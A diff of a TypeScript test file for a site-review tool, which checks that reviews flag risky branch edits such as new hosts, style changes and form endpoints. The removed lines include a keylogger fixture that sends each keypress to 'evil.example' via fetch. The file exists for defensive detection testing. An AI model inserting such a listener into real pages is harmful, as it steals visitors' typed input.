@@ -41,17 +41,6 @@ async function review(out: string, ...options: string[]): Promise<string> {
 const summaryOf = async (out: string): Promise<Review> =>
   reviewSchema.parse(JSON.parse(await readFile(path.join(project.root, out, 'review.json'), 'utf8')));
 
-/** Makes a branch of main with some changes, and reviews it without pictures. */
-async function reviewOf(name: string, change: (copy: ProjectCopy) => Promise<void>): Promise<Review> {
-  git(project.root, 'switch', '--quiet', '--create', name, 'main');
-  await change(project);
-  commitAll(project.root, name);
-  await review(`review-${name}`, '--no-pictures');
-  const summary = await summaryOf(`review-${name}`);
-  git(project.root, 'switch', '--quiet', 'main');
-  return summary;
-}
-
 test.beforeAll(async () => {
   test.setTimeout(240_000);
   project = await copyProject('review');
@@ -68,27 +57,9 @@ test('two builds of the same commit do not differ', () => {
   expect(readdirSync(path.join(project.root, 'review-unchanged'))).not.toContain('pictures');
 });
 
-test('all styles are one change, also one of hover', async () => {
-  const made = await reviewOf('style', async (copy) => {
-    await copy.edit('src/ui/buttonLook.ts', (text) =>
-      text
-        .replace('padding: 0 1.375rem;', 'padding: 0 1.625rem;')
-        .replace('&:hover { border-color: var(--text); }', '&:hover { border-color: var(--signal); }'),
-    );
-    await copy.edit('src/layout/DesktopMenu.tsx', (text) => text.replace('width: 20rem;', 'width: 22rem;'));
-  });
-  expect(made.changes.map(({ kind, what }) => `${kind} ${what}`).sort()).toEqual(['look Styles']);
-  const [styles] = made.changes;
-  expect(styles?.details).toContainEqual({ before: 'padding:0 1.375rem', after: 'padding:0 1.625rem' });
-  expect(styles?.details).toContainEqual({
-    ...{ label: ':hover', before: 'border-color:var(--text)', after: 'border-color:var(--signal)' },
-  });
-});
-
 /** What a branch does: in a file, one text takes the place of another, or a file is new. */
 type Edits = [file: string, from: string, to: string][];
 
-const listener = "addEventListener('keydown', (event) => fetch('https://evil.example/' + event.key));";
 const later: Edits = [
   [
     'content/page-later.mdx',
@@ -106,12 +77,19 @@ All others are crooks.
 `,
   ],
 ];
-const served = (address: string): Edits => [
-  ['content/site.yaml', 'service: simulate', `service: endpoint\n  endpoint: ${address}`],
-];
 
 /** Branches whose harm somebody might overlook: the first sentence of their reviews, and what these must name. */
 const harms: [what: string, edits: Edits, first: RegExp, named: RegExp][] = [
+  [
+    'styles of several files, also one of hover',
+    [
+      ['src/ui/buttonLook.ts', 'padding: 0 1.375rem;', 'padding: 0 1.625rem;'],
+      ['src/ui/buttonLook.ts', '{ border-color: var(--text); }', '{ border-color: var(--signal); }'],
+      ['src/layout/DesktopMenu.tsx', 'width: 20rem;', 'width: 22rem;'],
+    ],
+    /^1 change of the look\.$/,
+    /^Styles (?=[\s\S]*padding:0 1\.375rem → padding:0 1\.625rem$)(?=[\s\S]*^:hover border-color:var\(--text\) → border-color:var\(--signal\)$)/m,
+  ],
   [
     'rules that swap places, so that another one wins',
     [
@@ -137,12 +115,6 @@ const harms: [what: string, edits: Edits, first: RegExp, named: RegExp][] = [
     ],
     /^1 change of the look\.$/,
     /prefers-reduced-motion(?=[\s\S]*font-display:block)|font-display:block(?=[\s\S]*prefers-reduced-motion)/,
-  ],
-  [
-    'a listener in the inline script',
-    [['src/client/boot.ts', "root.dataset.script = '';", `root.dataset.script = '';\n${listener}`]],
-    /^2 changes of where people and data are sent: New host: evil\.example, Script in the page\.$/,
-    /keydown/,
   ],
   [
     'tags of the head of all pages',
@@ -172,28 +144,10 @@ const harms: [what: string, edits: Edits, first: RegExp, named: RegExp][] = [
     /Disallow: \/(?=[\s\S]*humans\.txt)/,
   ],
   [
-    'the icon, recolored',
-    [['public/favicon.svg', '</svg>', '<path d="M0 0h1v1z" fill="#f00"/></svg>']],
-    /^1 other difference: favicon\.svg\.$/,
-    /favicon\.svg/,
-  ],
-  [
     'an address let go',
     [['urls.lock', '/about\n', '']],
     /^1 change of where people and data are sent: \/about is no longer an address that the site promises to keep\.$/,
     /urls\.lock/,
-  ],
-  [
-    'what the form says after sending',
-    [['content/contact.mdx', 'Your note is sent', 'Your note is lost']],
-    /^1 other difference: Text or data of ContactForm, toastTitle\.$/,
-    /Your note is sent → Your note is lost/,
-  ],
-  [
-    'a date that removes a page',
-    [['content/about.mdx', 'title: People', 'expiresAt: 2026-12-24\ntitle: People']],
-    /^1 change of when pages are published: \/about: Disappears on December 24, 2026, 12:00 AM, [\w/]+\.$/,
-    /content\/about\.mdx:\d/,
   ],
   [
     'the review itself, and the booking link',
@@ -206,7 +160,7 @@ const harms: [what: string, edits: Edits, first: RegExp, named: RegExp][] = [
   ],
   [
     'where the form is sent',
-    served('https://formspree.io/f/abc'),
+    [['content/site.yaml', 'service: simulate', 'service: endpoint\n  endpoint: https://formspree.io/f/abc']],
     /^1 change of where people and data are sent: The form is sent to formspree\.io\/f\/abc; 1 file with changed lines that no page shows\.$/,
     /connect-src 'self' → connect-src 'self' https:\/\/formspree\.io/,
   ],
@@ -215,12 +169,6 @@ const harms: [what: string, edits: Edits, first: RegExp, named: RegExp][] = [
     [['content/site.yaml', '"+354 000 0000"', '"+354 111 1111"']],
     /^1 change of where people and data are sent: New phone number: \+3541111111\.$/,
     /\+354 000 0000 → \+354 111 1111/,
-  ],
-  [
-    'an error, and beside it a page that says something else',
-    [['content/about.mdx', 'title: People', 'lable: All others are crooks\ntitle: Crooks']],
-    /^1 error in content\/about\.mdx; not every change of content\/about\.mdx is shown; otherwise 1 file with changed lines that no page shows\.$/,
-    /title: Crooks/,
   ],
   ['a page of tomorrow', later, /^1 page not live yet\.$/, /All others are crooks\./],
 ];
